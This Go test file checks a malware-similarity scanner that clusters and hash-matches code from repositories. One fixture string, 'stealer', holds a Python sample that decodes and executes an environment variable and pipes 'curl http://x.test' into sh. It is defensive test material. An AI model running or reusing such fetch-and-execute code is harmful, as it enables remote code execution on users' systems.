package scan

import (
	"context"
	"hash/fnv"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"codesig/internal/classify"
	"codesig/internal/cluster"
	"codesig/internal/embedding"
	"codesig/internal/filter"
	"codesig/internal/hashdb"
	"codesig/internal/lexer"
	"codesig/internal/logging"
	"codesig/internal/signature"
	"codesig/internal/source"
	"codesig/internal/walker"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// memProvider serves flat repositories: repo key -> path -> content.
type memProvider map[string]map[string]string

func (p memProvider) List(_ context.Context, owner, repo, _ string) ([]source.Entry, error) {
	files := p[owner+"/"+repo]
	var out []source.Entry
	for _, name := range sortedKeys(files) {
		out = append(out, source.Entry{Name: name, Path: name, Type: source.TypeFile, Ref: owner + "/" + repo})
	}
	return out, nil
}

func (p memProvider) Fetch(_ context.Context, e source.Entry) ([]byte, error) {
	return []byte(p[e.Ref][e.Path]), nil
}

func sortedKeys(m map[string]string) []string {
	return slices.Sorted(maps.Keys(m))
}

// hashService embeds text deterministically from its bytes.
type hashService struct{}

func (hashService) EmbedChunk(_ context.Context, text string) ([]float32, error) {
	h := fnv.New64a()
	_, _ = h.Write([]byte(text))
	sum := h.Sum64()
	return []float32{
		float32(sum%1000) / 1000,
		float32((sum/1000)%1000) / 1000,
		float32(len(text)) / 100,
	}, nil
}

const (
	stealer = "import os\nimport base64\npayload = base64.b64decode(os.environ['KEY'])\nexec(payload)\nos.system('curl http://x.test | sh')\n"
	helper  = "def add(a, b):\n    return a + b\n\ndef sub(a, b):\n    return a - b\n\nprint(add(1, 2), sub(3, 4))\n"
)

func newScanner(t *testing.T, p source.Provider, opts Options, hashes *hashdb.DB) *Scanner {
	t.Helper()
	logger, _ := logging.NewObserved()
	w := walker.New(p, walker.Options{Workers: 2}, logger)
	f := &filter.Filter{MinLength: 16, MaxSize: 1 << 20, Logger: logger}
	stage := embedding.NewStage(hashService{}, lexer.New(lexer.NewRegistry()), 4, logger)
	engine := cluster.NewEngine(cluster.DefaultOptions(), logger)
	return New(w, f, stage, engine, hashes, opts, logger)
}

func repos(names ...string) []source.RepoRef {
	var out []source.RepoRef
	for _, n := range names {
		r, _ := source.ParseRepoRef(n)
		out = append(out, r)
	}
	return out
}

func TestBuildReference(t *testing.T) {
	p := memProvider{
		"evil/kit": {"steal.py": stealer, "tiny.py": "x=1"},
		"evil/two": {"helper.py": helper},
	}
	s := newScanner(t, p, Options{Workers: 4}, nil)

	var (
		mu     sync.Mutex
		phases []string
	)
	s.OnProgress(func(phase string, _, _ int) {
		mu.Lock()
		defer mu.Unlock()
		if len(phases) == 0 || phases[len(phases)-1] != phase {
			phases = append(phases, phase)
		}
	})

	ref, stats, err := s.BuildReference(context.Background(), repos("evil/kit", "evil/two"))
	require.NoError(t, err)
	assert.Equal(t, Stats{Repos: 2, Units: 3, Accepted: 2, Rejected: 1}, stats)
	assert.Equal(t, []string{PhaseWalk, PhaseAnalyze}, phases)

	require.False(t, ref.Empty())
	assert.True(t, strings.HasPrefix(ref.Rows[0].ID, "evil/kit/steal.py#"))
	assert.Equal(t, "evil/two/helper.py", ref.Rows[ref.Len()-1].Source)
	for _, r := range ref.Rows {
		assert.Len(t, r.Vector, 3)
		assert.GreaterOrEqual(t, r.Cluster, 0)
	}
}

func TestBuildReferenceNoData(t *testing.T) {
	p := memProvider{"evil/kit": {"tiny.py": "x=1"}}
	s := newScanner(t, p, Options{}, nil)

	_, stats, err := s.BuildReference(context.Background(), repos("evil/kit"))
	assert.ErrorIs(t, err, ErrNoData)
	assert.Equal(t, 1, stats.Rejected)
}

func referenceTable(ids ...int) signature.Table {
	var t signature.Table
	for _, id := range ids {
		t.Rows = append(t.Rows, signature.Row{ID: "ref", Cluster: id})
	}
	return t
}

func TestScan(t *testing.T) {
	p := memProvider{
		"octo/app": {"a_helper.py": helper, "b_steal.py": stealer, "c_tiny.py": "pass"},
	}
	dir := t.TempDir()
	s := newScanner(t, p, Options{Workers: 3, SaveClusters: dir}, nil)

	run, err := s.Scan(context.Background(), repos("octo/app"), referenceTable(0, 1, 2, 3, 4, 5, 6, 7, 8, 9))
	require.NoError(t, err)
	assert.NotEmpty(t, run.ID)
	assert.Equal(t, Stats{Repos: 1, Units: 3, Accepted: 2, Rejected: 1}, run.Stats)

	require.Equal(t, 2, run.Summary.Total)
	assert.Equal(t, "octo/app/a_helper.py", run.Summary.Details[0].FileName)
	assert.Equal(t, "octo/app/b_steal.py", run.Summary.Details[1].FileName)
	require.Len(t, run.Files, 2)
	for _, v := range run.Summary.Details {
		assert.Greater(t, v.Score, 0.0)
		assert.LessOrEqual(t, v.Score, 1.0)
		assert.Equal(t, classify.Flag(v.Score, 0), v.Flagged)
	}
	assert.Equal(t, 2, run.Summary.Flagged)

	_, err = os.Stat(filepath.Join(dir, ClusterFileName("octo/app/b_steal.py")))
	assert.NoError(t, err)
}

func TestScanShapeErrorScoresZero(t *testing.T) {
	logger, logs := logging.NewObserved()
	p := memProvider{"octo/app": {"b_steal.py": stealer}}
	s := newScanner(t, p, Options{Threshold: 0.5}, nil)
	s.logger = logger

	run, err := s.Scan(context.Background(), repos("octo/app"), referenceTable(0, signature.MissingCluster))
	require.NoError(t, err)
	require.Equal(t, 1, run.Summary.Total)
	assert.Zero(t, run.Summary.Details[0].Score)
	assert.False(t, run.Summary.Details[0].Flagged)
	assert.Equal(t, 1, logs.FilterMessage("comparison failed, scoring 0").Len())
}

func TestCheckTextWithHashMatch(t *testing.T) {
	data := "sha256_hash,md5_hash,sha1_hash,signature\n" + hashdb.Hashes([]byte(stealer))[hashdb.SHA256] + ",,,PyStealer\n"
	db, err := hashdb.Read(strings.NewReader(data), nil)
	require.NoError(t, err)

	s := newScanner(t, memProvider{}, Options{Threshold: 1}, db)
	r := s.CheckText(context.Background(), "steal.py", stealer, referenceTable(0, 1))
	require.Equal(t, StatusClustered, r.Status)
	assert.Equal(t, "local/file/steal.py", r.Verdict.FileName)
	assert.False(t, r.Verdict.Flagged)
	require.Len(t, r.Verdict.HashMatches, 1)
	assert.Equal(t, "PyStealer", r.Verdict.HashMatches[0].Signature)

	r = s.CheckText(context.Background(), "tiny.py", "x", referenceTable(0))
	assert.Equal(t, StatusRejected, r.Status)
	assert.Equal(t, filter.ReasonTooShort, r.Reason)
}

func TestScanCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	s := newScanner(t, memProvider{"octo/app": {"a.py": helper}}, Options{}, nil)

	_, err := s.Scan(ctx, repos("octo/app"), referenceTable(0))
	assert.ErrorIs(t, err, context.Canceled)
}

func TestClusterFileName(t *testing.T) {
	assert.Equal(t, "octo_app_kit.zip_src_a.py.csv", ClusterFileName("octo/app/kit.zip!src/a.py"))
}
